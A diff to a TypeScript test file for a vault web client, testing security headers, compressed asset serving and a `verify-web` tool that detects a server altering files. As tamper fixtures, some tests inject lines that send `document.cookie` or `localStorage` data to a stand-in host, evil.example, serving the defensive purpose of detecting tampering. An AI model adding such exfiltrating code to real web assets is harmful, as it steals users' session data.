@@ -1,10 +1,11 @@
 import { spawn } from 'node:child_process';
-import { copyFile, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
+import { copyFile, cp, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
 import http from 'node:http';
 import { connect } from 'node:net';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { Writable } from 'node:stream';
+import { brotliCompressSync, brotliDecompressSync, gunzipSync, gzipSync } from 'node:zlib';
 import t from 'tap';
 import { build } from './helper.ts';
 import { CONTENT_SECURITY_POLICY } from '../server/src/http/security-headers.ts';
@@ -12,8 +13,9 @@ import { EXPECTED_CSP, parseManifest, verifyWeb } from '../cli/src/web-verify.ts
 import { sealBuild } from '../web/build/integrity.ts';
 
 // The web client served by the server (a fixture build, not the real one), its policy
-// headers on every kind of answer, and `tvault verify-web` against a trusted manifest: it
-// passes, then fails naming the file a hostile server changed.
+// headers on every kind of answer, compressed answers, and `tvault verify-web` against a
+// trusted manifest: it passes, then fails naming the file a hostile server changed, in the
+// answer a browser gets or in the one `curl` gets.
 
 const CSP =
   "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'self'; connect-src 'self'; style-src 'self'; img-src 'self' blob:; media-src 'self' blob:; object-src 'none'; base-uri 'none'; frame-ancestors 'none'; form-action 'self'";
@@ -23,6 +25,9 @@ const work = await mkdtemp(path.join(tmpdir(), 'tvault-web-'));
 t.teardown(() => rm(work, { recursive: true, force: true }));
 const dist = path.join(work, 'dist');
 const APP = '/assets/app-Dx3f9a.js';
+// Large enough for the build to write compressed variants of it.
+const SCREENS = '/assets/screens-Hq4.js';
+const SCREENS_CODE = Array.from({ length: 200 }, (_, i) => `export const screen${i} = () => "pantalla ${i}";`).join('\n');
 
 await mkdir(path.join(dist, 'assets'), { recursive: true });
 await writeFile(
@@ -32,6 +37,7 @@ await writeFile(
 await writeFile(path.join(dist, APP), 'console.log("vault");\n');
 await writeFile(path.join(dist, 'assets/app-Q2b7.css'), 'body { margin: 0 }\n');
 await writeFile(path.join(dist, 'assets/worker-Z1.js'), 'self.onmessage = () => {};\n');
+await writeFile(path.join(dist, SCREENS), SCREENS_CODE);
 await writeFile(path.join(dist, 'assets/sodium-K9.wasm'), Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]));
 await writeFile(path.join(dist, 'app.webmanifest'), '{"name":"Bóveda"}\n');
 await writeFile(path.join(dist, '.env'), 'SECRET=1\n');
@@ -131,6 +137,49 @@ t.test('one policy on every answer: API, static file, error, 404, before routing
   t.ok(parserAnswer.includes(`\r\ncontent-security-policy: ${CSP}\r\n`), 'parser refusal: CSP');
 });
 
+const BROWSER_ENCODINGS = 'gzip, deflate, br, zstd';
+
+t.test('compressed answers: the variant the browser takes, with the headers of the file', async (t) => {
+  const code = Buffer.from(SCREENS_CODE);
+  t.ok(brotliDecompressSync(await readFile(path.join(dist, `${SCREENS}.br`))).equals(code), 'the build wrote a brotli variant');
+  t.ok(gunzipSync(await readFile(path.join(dist, `${SCREENS}.gz`))).equals(code), 'and a gzip one');
+  const manifest = parseManifest(await readFile(trusted, 'utf8'));
+  t.notOk(Object.keys(manifest.files).some((f) => /\.(br|gz)$/.test(f)), 'variants are not files of the manifest');
+
+  const cases: [string, string | undefined, (b: Buffer) => Buffer][] = [
+    [BROWSER_ENCODINGS, 'br', brotliDecompressSync],
+    ['gzip, deflate', 'gzip', gunzipSync],
+    ['identity', undefined, (b) => b],
+    ['', undefined, (b) => b],
+  ];
+  for (const [accept, encoding, decode] of cases) {
+    const res = await server.app.inject({ url: SCREENS, headers: accept ? { 'accept-encoding': accept } : {} });
+    t.equal(res.statusCode, 200);
+    t.equal(res.headers['content-encoding'], encoding, `Accept-Encoding "${accept}": ${encoding ?? 'none'}`);
+    t.ok(decode(res.rawPayload).equals(code), `"${accept}": the file's bytes once decoded`);
+    t.match(res.headers.vary, /accept-encoding/i, `"${accept}": Vary: Accept-Encoding`);
+    t.equal(res.headers['content-type'], 'application/javascript; charset=utf-8');
+    t.equal(res.headers['cache-control'], 'public, max-age=31536000, immutable');
+    t.equal(res.headers['content-security-policy'], CSP);
+    if (encoding) t.ok(res.rawPayload.length < code.length / 3, 'smaller on the wire');
+  }
+  for (const url of [`${SCREENS}.br`, `${SCREENS}.gz`]) t.equal((await raw(url)).status, 404, `${url}: not a file of its own`);
+});
+
+t.test('a compressed variant that is not its file is not served', async (t) => {
+  const stale = path.join(work, 'stale');
+  await cp(dist, stale, { recursive: true });
+  await writeFile(path.join(stale, `${SCREENS}.br`), brotliCompressSync('export const screen0 = () => "otra";'));
+  const staleLog: string[] = [];
+  const other = await build(t, { WEB_DIST_DIR: stale, LOG_LEVEL: 'info' }, { stream: new Writable({ write(chunk, _enc, done) { staleLog.push(String(chunk)); done(); } }) });
+  const res = await other.app.inject({ url: SCREENS, headers: { 'accept-encoding': BROWSER_ENCODINGS } });
+  t.equal(res.headers['content-encoding'], undefined, 'the file itself, uncompressed');
+  t.equal(res.body, SCREENS_CODE);
+  t.match(staleLog.join(''), /screens-Hq4\.js.*served uncompressed/, 'the log names the file');
+  const page = await other.app.inject({ url: '/', headers: { 'accept-encoding': BROWSER_ENCODINGS } });
+  t.equal(page.statusCode, 200, 'the rest is served as before');
+});
+
 t.test('logs name route patterns, never the path asked for', async (t) => {
   await server.app.inject({ url: '/records/casa-refugio-testimonio-de-r' });
   await server.app.inject({ url: '/assets/missing-casa-refugio.js' });
@@ -175,10 +224,10 @@ function tvault(args: string[]): Promise<Run> {
 
 t.test('verify-web: the audited build passes; a file changed by the server fails, named', async (t) => {
   const manifest = parseManifest(await readFile(trusted, 'utf8'));
-  t.same(await verifyWeb(server.url, manifest), { files: 6, differences: [] });
+  t.same(await verifyWeb(server.url, manifest), { files: 7, differences: [] });
   let r = await tvault(['verify-web', server.url, '--manifest', trusted]);
   t.equal(r.code, 0, r.stderr);
-  t.match(r.stdout, /^VERIFIED: .* serves the 6 files of the trusted manifest/);
+  t.match(r.stdout, /^VERIFIED: .* serves the 7 files of the trusted manifest/);
 
   // What a hostile server would do: same names, other code.
   await writeFile(path.join(dist, APP), 'fetch("https://evil.example/?k=" + localStorage.key);\n');
@@ -216,4 +265,20 @@ t.test('verify-web: a page at / other than /index.html, a missing policy, a mani
   const r = await tvault(['verify-web', 'http://127.0.0.1:9/', '--manifest', trusted]);
   t.equal(r.code, 4, 'a server that does not answer: exit code 4');
   t.match(r.stderr, /^tvault: Cannot reach http:\/\/127\.0\.0\.1:9\//);
+});
+
+t.test('verify-web: other code only in the compressed answer a browser gets is caught', async (t) => {
+  const manifest = parseManifest(await readFile(trusted, 'utf8'));
+  // The server checked its variants at start; a hostile one changes them afterwards, so that
+  // `curl` (no Accept-Encoding) gets the audited file and every browser another.
+  const hostile = `${SCREENS_CODE}\nfetch("https://evil.example/?k=" + document.cookie);`;
+  await writeFile(path.join(dist, `${SCREENS}.br`), brotliCompressSync(hostile));
+  await writeFile(path.join(dist, `${SCREENS}.gz`), gzipSync(hostile));
+  t.equal((await server.app.inject({ url: SCREENS })).body, SCREENS_CODE, 'curl still gets the audited file');
+  const report = await verifyWeb(server.url, manifest);
+  const screens = report.differences.filter((d) => d.path === SCREENS);
+  t.match(screens, [{ problem: 'hash', encoding: 'br', expected: manifest.files[SCREENS] }], 'the brotli answer, decoded, is named');
+  const r = await tvault(['verify-web', server.url, '--manifest', trusted]);
+  t.equal(r.code, 5);
+  t.match(r.stdout, `DIFFERS: ${SCREENS} (Content-Encoding: br): the server serves SHA-256`);
 });
